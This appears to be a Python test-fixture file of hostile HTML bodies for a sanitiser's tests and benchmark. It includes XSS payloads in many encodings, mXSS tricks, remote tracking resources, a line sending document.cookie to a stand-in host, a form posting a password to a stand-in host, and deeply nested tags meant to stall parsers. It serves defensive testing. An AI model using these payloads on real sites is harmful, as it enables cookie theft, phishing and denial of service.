"""Hostile HTML bodies, shared by the sanitiser's tests and bench/render.py: scripts, remote
resources, handlers and mXSS in many disguises (HOSTILE), and bodies nested 10,000 deep in the
tags that cost most to nest (DEEP: nh3 and Qt took up to 13 s on one of them)."""

from __future__ import annotations

HOSTILE = [
    # scripts in every disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src='//evil.example/x.js'></script>",
    '<<script>alert("x");//<</script>',
    "<div><script>document.write('<img src=http://evil.example/c?'+document.cookie+'>')</script></div>",
    # javascript: URLs in many encodings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">survol</div>',
    "<svg/onload=alert(1)>",
    '<p ONCLICK="alert(1)">p</p>',
    # remote images and CSS
    '<img src="http://tracker.example/pixel.gif">',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="ftp://tracker.example/p.gif">',
    '<img srcset="http://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    '<picture><source srcset="https://evil.example/a.webp"><img src="cid:a"></picture>',
    '<div style="background:url(http://evil.example/bg.png)">bg</div>',
    "<div style=\"background-image: url('//evil.example/x')\">bg</div>",
    '<div style="width: expression(alert(1))">ie</div>',
    "<style>@import url(http://evil.example/x.css); body{background:url(https://e.example/b)}</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<table background="http://evil.example/t.png"><tr><td background="https://e.example/t">c</td></tr></table>',
    '<body background="http://evil.example/b.png">',
    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3"></audio>',
    '<input type="image" src="http://evil.example/i.png">',
    # SVG with scripts
    '<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # forms
    '<form action="http://evil.example/steal"><input name="pw"><button>OK</button></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    "<textarea>secret</textarea><select><option>o</option></select>",
    # frames, objects, embeds, base, meta
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<frameset><frame src="http://evil.example/"></frameset>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    # mXSS classics
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="http://ok.example" title="http://evil.example/t">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img alt="x" src="cid:logo@example" onerror="alert(1)">',
    # deep nesting
    "<div>" * 10_000 + "profond" + "</div>" * 10_000,
    "<b><i>" * 3000 + "x",
]

_N = 10_000
DEEP = {
    "div": "<div>" * _N + "profond" + "</div>" * _N,
    "blockquote": "<blockquote>" * _N + "profond" + "</blockquote>" * _N,
    "table": "<table><tr><td>" * _N + "profond" + "</td></tr></table>" * _N,
    "ul": "<ul><li>" * _N + "profond" + "</li></ul>" * _N,
    "ol unclosed": "<ol><li>" * _N + "profond",
    "span": "<span>" * _N + "profond" + "</span>" * _N,
    "b i unclosed": "<b><i>" * _N + "profond",
    "div p": "<div><p>" * _N + "profond",
    "mixed": "<div><table><tr><td><ul><li><blockquote>" * (_N // 6) + "profond",
    "behind comments": "<div><!--</div>-->" * _N + "profond",
    "behind cells": "<div><table><tr><td></div>" * (_N // 4) + "profond",
    # formatting that HTML opens again in every paragraph: 22 KB became 7 MB of nested <b>
    "reopened": "<p>"
    + "".join(f'<b title="{i}">' for i in range(1000))
    + "</p>"
    + "<p>profond</p>" * 1000,
}
